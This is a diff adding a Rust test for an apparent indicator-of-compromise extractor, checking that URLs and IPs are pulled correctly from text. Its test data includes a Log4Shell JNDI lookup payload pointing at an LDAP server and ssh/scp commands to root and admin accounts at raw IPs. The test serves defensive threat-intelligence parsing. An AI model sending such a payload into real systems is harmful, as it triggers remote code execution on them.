@@ -498,3 +498,26 @@ fn a_possessive_is_not_part_of_a_name() {
     // In a path, `'s` may be part of a folder's name.
     assert_eq!(found(r"C:\Users\Bob's"), kinds_values(&[("file-path", r"C:\Users\Bob's")]));
 }
+
+#[test]
+fn a_lookup_brace_and_a_user_at_an_address() {
+    // A Log4Shell lookup closes with a brace that is not the URL's.
+    assert_eq!(
+        found("${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/dXBkYXRl}"),
+        kinds_values(&[("url", "ldap://45.155.205.233:12344/Basic/Command/Base64/dXBkYXRl")])
+    );
+    // `user@address` (ssh, scp, stealer logs) names the address.
+    let text = "ssh root@45.137.22.80 -p 2222; scp x admin@91.215.85[.]3:/tmp";
+    let got: Vec<(String, String, &str, bool)> = Extractor::new()
+        .extract(text)
+        .iter()
+        .map(|m| (m.kind().id().to_owned(), m.value(), m.raw(text), m.defanged))
+        .collect();
+    let want = [
+        ("ipv4", "45.137.22.80", "45.137.22.80", false),
+        ("ipv4", "91.215.85.3", "91.215.85[.]3", true),
+    ];
+    let want: Vec<(String, String, &str, bool)> =
+        want.iter().map(|(k, v, r, d)| ((*k).to_owned(), (*v).to_owned(), *r, *d)).collect();
+    assert_eq!(got, want);
+}
